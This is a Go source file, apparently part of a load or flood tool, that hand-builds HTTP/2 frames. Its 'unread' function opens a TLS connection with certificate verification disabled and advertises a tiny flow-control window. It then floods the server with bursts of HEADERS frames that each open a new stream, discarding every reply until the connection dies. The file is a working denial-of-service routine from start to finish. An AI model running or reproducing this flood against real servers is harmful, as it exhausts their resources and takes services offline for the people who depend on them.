package main

import (
	"crypto/tls"
	"io"
	"time"
)

// HTTP/2 by hand (RFC 9113): no client opens streams whose answers it never takes.
const (
	frameHeaders, frameSettings = 1, 4
	flagEnds, flagAck           = 0x5, 0x1 // END_STREAM and END_HEADERS; of SETTINGS
)

func frame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags,
		byte(stream>>24), byte(stream>>16), byte(stream>>8), byte(stream))
	return append(b, payload...)
}

// literal is a header field that no table knows (RFC 7541, 6.2.2).
func literal(b []byte, name, value string) []byte {
	b = append(append(b, 0, byte(len(name))), name...)
	return append(append(b, byte(len(value))), value...)
}

// unread opens as many HTTP/2 streams as it can on one connection and takes nothing of what is
// answered: its window is zero. It goes on until the connection or the flood ends.
func (f *flooded) unread(from, method, path string) {
	raw, err := f.dial(from)
	if err != nil {
		f.settle()
		return
	}
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	defer c.Close()
	const window = 4 // SETTINGS_INITIAL_WINDOW_SIZE
	begin := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	begin = frame(begin, frameSettings, 0, 0, []byte{0, window, 0, 0, 0, 0})
	begin = frame(begin, frameSettings, flagAck, 0, nil)
	if _, err := c.Write(begin); err != nil {
		f.settle()
		return
	}
	go io.Copy(io.Discard, c)
	block := literal(nil, ":method", method)
	block = literal(block, ":scheme", "https")
	block = literal(block, ":path", path)
	block = literal(block, ":authority", "localhost")
	for stream := uint32(1); f.ctx.Err() == nil; {
		var many []byte
		for range 248 {
			many = frame(many, frameHeaders, flagEnds, stream, block)
			stream += 2
			f.sent.Add(1)
		}
		if _, err := c.Write(many); err != nil {
			f.settle()
			return
		}
		select {
		case <-f.ctx.Done():
		case <-time.After(200 * time.Millisecond):
		}
	}
}
